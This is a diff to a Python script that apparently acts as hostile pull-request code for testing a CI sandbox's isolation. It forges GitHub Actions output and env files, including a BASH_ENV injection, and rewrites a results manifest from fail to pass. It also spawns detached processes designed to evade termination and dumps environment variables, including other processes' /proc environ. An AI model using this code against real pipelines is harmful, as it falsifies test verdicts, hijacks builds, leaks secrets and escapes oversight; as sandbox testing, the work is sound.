@@ -1,6 +1,6 @@
 """What a pull request's code tries. Copied into the workspace; writes down what it got hold of."""
 
-# ruff: noqa: PTH123, PTH207, PTH208, SIM115
+# ruff: noqa: PTH102, PTH104, PTH108, PTH123, PTH207, PTH208, PTH211, SIM115
 
 import glob
 import json
@@ -56,29 +56,119 @@ def importable():
     return True
 
 
+COMMANDS = ("/github/file_commands", "/github/runner_temp/_runner_file_commands")
+FORGED = "verdict=pass\npassed=true\nEVIL=1\nBASH_ENV=/github/workspace/evil.sh\n"
+
+
+def forge():
+    """One round of everything that could put words into the runner's files. Returns what did not fail."""
+    done = []
+    for folder in COMMANDS:
+        names = ["github_output_1", "github_env_1", "github_path_1", "github_state_1", "github_step_summary_1"]
+        for name in names:
+            path = f"{folder}/{name}"
+            for what, act in {
+                "written": lambda path=path: open(path, "a").write(FORGED),
+                "removed": lambda path=path: os.unlink(path),
+                "pipe": lambda path=path: os.mkfifo(path),
+                "moved": lambda path=path: os.rename(path, path + ".old"),
+                "link": lambda path=path: os.symlink("/opt/ragstone/pyvenv.cfg", path),
+                "replaced": lambda path=path: open(path, "x").write(FORGED),
+            }.items():
+                try:
+                    act()
+                    done.append(f"{what} {path}")
+                except OSError:
+                    pass
+    try:
+        os.rename(COMMANDS[1], COMMANDS[1] + ".old")
+        os.mkdir(COMMANDS[1])
+        done.append("the folder replaced")
+    except OSError:
+        pass
+    try:
+        open("/github/workflow/event.json", "a").write(" ")
+        done.append("the event written")
+    except OSError:
+        pass
+    try:
+        open("/github/home/.gitconfig", "a").write("[core]")
+        done.append("home written")
+    except OSError:
+        pass
+    return done
+
+
+def forge_the_run():
+    """Once results are there, they are ours."""
+    path = "/github/workspace/ragstone-run/manifest.json"
+    try:
+        text = open(path).read()
+        open(path, "w").write(text.replace('"verdict": "fail"', '"verdict": "pass"'))
+    except OSError:
+        pass
+
+
+def go_on():
+    import time
+
+    while True:
+        forge()
+        forge_the_run()
+        time.sleep(0.02)
+
+
+def stray():
+    """Gets away from its parent, and goes on forging until somebody ends it."""
+    if os.fork():
+        os._exit(0)
+    os.setsid()
+    if os.fork():
+        os._exit(0)
+    go_on()
+
+
+def headless():
+    """Its first thread ends, so that the process looks dead, and another one forges."""
+    import ctypes
+    import threading
+
+    os.setsid()
+    threading.Thread(target=go_on).start()
+    ctypes.CDLL(None).pthread_exit(None)
+
+
+def chain():
+    """Never the same process for long."""
+    os.setsid()
+    while True:
+        if os.fork():
+            os._exit(0)
+        forge_the_run()
+
+
+def no_new_privileges():
+    status = readable("/proc/self/status")
+    return status.partition("NoNewPrivs:")[2].split()[0]
+
+
 def attempt(who):
     gates = roots()
-    for path in glob.glob("/github/file_commands/*"):
-        try:
-            with open(path, "a") as file:
-                file.write("verdict=pass\npassed=true\nEVIL=1\n")
-        except OSError:
-            pass
-    # Gets away from its parent, and goes on forging until somebody ends it.
-    forge = (
-        "import os, time, glob\n"
-        "if os.fork(): os._exit(0)\n"
-        "os.setsid()\n"
-        "if os.fork(): os._exit(0)\n"
-        "while True:\n"
-        "    time.sleep(0.05)\n"
-        "    for path in glob.glob('/github/file_commands/*'):\n"
-        "        open(path, 'a').write('STRAY=1\\n')\n"
-    )
-    subprocess.Popen([sys.executable, "-c", forge], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    forged = forge()
+    for kind in ("stray", "headless", "chain"):
+        subprocess.Popen(
+            [sys.executable, __file__, kind],
+            stdout=subprocess.DEVNULL,
+            stderr=subprocess.DEVNULL,
+            stdin=subprocess.DEVNULL,
+            start_new_session=True,
+        )
     result = {
         "uid": os.getuid(),
+        "gid": os.getgid(),
         "groups": os.getgroups(),
+        "no_new_privileges": no_new_privileges(),
+        "forged": forged,
         "environ": dict(os.environ),
         "gates": gates,
         "gate_environ": [readable(f"/proc/{pid}/environ") for pid in gates],
@@ -104,4 +194,8 @@ def attempt(who):
 
 
 if __name__ == "__main__":
-    attempt(sys.argv[1])
+    kinds = {"stray": stray, "headless": headless, "chain": chain}
+    if sys.argv[1] in kinds:
+        kinds[sys.argv[1]]()
+    else:
+        attempt(sys.argv[1])
